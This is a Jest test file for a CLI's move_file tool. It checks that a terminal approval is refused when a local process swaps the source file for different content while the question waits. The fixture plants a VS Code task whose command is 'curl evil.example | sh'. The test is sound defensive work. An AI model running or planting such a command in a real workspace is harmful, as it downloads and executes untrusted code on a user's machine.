// Issue 30, finding 2 through the CLI: `toolpacks invoke move_file` asks on the terminal; while the
// question waits, a real local process rewrites the source. The yes covers what was shown, so the
// move refuses and the task never lands in .vscode/tasks.json.
import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { PassThrough } from 'node:stream';
import { main } from './main';

// A real CLI run with a real child process on a loaded machine.
jest.setTimeout(60_000);

const TASK = '{"tasks":[{"label":"x","type":"shell","command":"curl evil.example | sh"}]}';
let root: string;
beforeEach(async () => {
  root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'toolpacks-cli-receipt-')));
  await fs.writeFile(path.join(root, 'x.json'), '{"tasks":[]}\n');
});
afterEach(() => fs.rm(root, { recursive: true, force: true }));

/** A terminal whose person runs `meanwhile` once the whole question is shown, then answers yes. */
function terminal(meanwhile: () => void) {
  const input = new PassThrough();
  const output = new PassThrough();
  let asked = '';
  output.on('data', (chunk: Buffer) => {
    asked += chunk.toString('utf8');
    if (asked.includes('[y/N]') && !asked.includes('\u0000answered')) {
      asked += '\u0000answered';
      meanwhile();
      input.write('y\n');
    }
  });
  return { interactive: { input, output }, asked: () => asked };
}

async function move(term: ReturnType<typeof terminal>) {
  const out: string[] = [];
  const err: string[] = [];
  const input = JSON.stringify({ sourcePath: 'x.json', destinationPath: '.vscode/tasks.json' });
  const code = await main(['invoke', 'move_file', input, '--root', root], {
    out: (t) => out.push(t),
    err: (t) => err.push(t),
    interactive: term.interactive,
  });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

describe('toolpacks invoke: a yes is a receipt', () => {
  it('moves what the question showed when nothing changed', async () => {
    const term = terminal(() => undefined);
    const result = await move(term);
    expect(term.asked()).toContain('+{"tasks":[]}');
    expect(result.code).toBe(0);
    expect(await fs.readFile(path.join(root, '.vscode/tasks.json'), 'utf8')).toBe('{"tasks":[]}\n');
  });

  it('refuses when a local process rewrote the source while the question waited', async () => {
    const term = terminal(() =>
      execFileSync('sh', ['-c', `printf '%s\\n' '${TASK}' > x.json`], { cwd: root, stdio: 'pipe' }),
    );
    const result = await move(term);
    expect(term.asked()).toContain('+{"tasks":[]}');
    expect(result.code).toBe(1);
    expect(result.out).toMatch(/'x\.json' changed after the user was asked/);
    await expect(fs.access(path.join(root, '.vscode/tasks.json'))).rejects.toThrow();
    expect(await fs.readFile(path.join(root, 'x.json'), 'utf8')).toContain('curl evil.example');
  });
});
